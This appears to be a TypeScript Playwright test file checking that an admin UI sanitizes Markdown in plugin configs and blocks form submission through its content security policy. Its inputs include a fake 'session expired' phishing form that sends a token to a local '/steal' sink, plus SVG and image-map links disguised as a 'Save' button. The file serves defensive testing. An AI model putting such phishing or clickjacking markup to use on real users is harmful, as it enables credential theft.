import assert from 'node:assert/strict'
import http from 'node:http'
import type { AddressInfo } from 'node:net'
import { installPluginFromPath } from '@plugin-server/management'
import { AdminFleet, startAdminFleet } from '../admin-api/admin-fleet'
import type { Locator, Page } from 'playwright-core'
import { launchBrowser, login } from '../harness/browser'
import { writePlugin } from '../harness/plugins'

describe('admin UI: forms in plugin.json Markdown', function () {
  this.timeout(180_000)
  let f: AdminFleet
  let sink: http.Server
  const hits: string[] = []
  let sinkUrl: string

  before(async () => {
    f = await startAdminFleet(['capture'])
    sink = http.createServer((req, res) => {
      hits.push(`${req.method} ${req.url}`)
      res.end('got it')
    })
    await new Promise<void>((resolve) => sink.listen(0, '127.0.0.1', resolve))
    sinkUrl = `http://127.0.0.1:${(sink.address() as AddressInfo).port}/steal`
  })
  after(async () => {
    await f?.close()
    sink?.close()
  })

  /** Installs a plugin whose first config block is `markdown`, opens its page signed in, and hands `check` that block once `shown` is in it. */
  async function onMarkdownBlock(name: string, markdown: string, shown: string, check: (block: Locator, page: Page) => Promise<void>): Promise<void> {
    const dir = writePlugin(name, 'export function processEvent(e) { return e }', [{ markdown }, { key: 'k', name: 'K', type: 'string' }])
    const installed = await installPluginFromPath(f.management, dir)
    const browser = await launchBrowser()
    try {
      const page = await browser.newPage()
      await page.goto(`${f.fleet.captureUrl}/admin/`)
      await login(page, f.teamToken)
      await page.goto(`${f.fleet.captureUrl}/admin/#/plugins/${installed.plugin.id}`)
      const block = page.getByTestId('plugin-config-schema').locator('.markdown').first()
      await block.getByText(shown).waitFor({ timeout: 20_000 })
      await check(block, page)
    } finally {
      await browser.close()
    }
  }

  it('shows a form and its controls from Markdown as text only, and the page lets no form submit anywhere', async () => {
    const markdown = `Your session expired. <form action="${sinkUrl}" method="get"><input name="token" type="password" id="phish" value="typed-token"><button id="phish-go" type="submit">Sign in again</button><select id="phish-select"></select><textarea id="phish-text"></textarea></form><style>body { display: none }</style>`
    await onMarkdownBlock('phish-markdown', markdown, 'Your session expired.', async (block, page) => {
      assert.equal(await block.locator('form, input, button, select, textarea, style').count(), 0, await block.innerHTML())

      // The second line, should the sanitizer ever let one through: the policy blocks any form submission.
      // Other reports may arrive meanwhile: DOMPurify's parse of the Markdown's <style> is itself refused
      // (style-src-elem) whenever the page renders it again. Only the form's report answers.
      const blocked = await page.evaluate(`new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => {
          if (e.violatedDirective === 'form-action') resolve(e.blockedURI)
        })
        setTimeout(() => resolve('no form-action report in 20 s'), 20000)
        const form = document.createElement('form')
        form.action = ${JSON.stringify(sinkUrl)}
        form.method = 'get'
        document.body.appendChild(form)
        form.submit()
      })`)
      assert.ok(String(blocked).startsWith(sinkUrl), String(blocked))
      assert.deepEqual(hits, [])
    })
  })

  it('keeps no SVG or image map from Markdown (a drawn "Save" linking elsewhere opened in the admin tab itself), and opens every link it keeps in a new tab', async () => {
    const markdown = `Set your key below.

<svg width="100%" height="200"><a href="${sinkUrl}"><rect width="100%" height="100%" fill="#fff"/><text x="40" y="20">Save</text></a></svg>
<map name="m"><area shape="default" href="${sinkUrl}"></map><img usemap="#m" alt="map">
[a plain link](${sinkUrl})`
    await onMarkdownBlock('svg-markdown', markdown, 'Set your key below.', async (block) => {
      assert.equal(await block.locator('svg, math, map, area').count(), 0, await block.innerHTML())
      const links = await block.locator('[href]').evaluateAll((elements) => elements.map((e) => [e.getAttribute('target'), e.getAttribute('rel')]))
      assert.deepEqual(links, [['_blank', 'noopener noreferrer']], 'the plain link only, in a new tab')
    })
  })
})
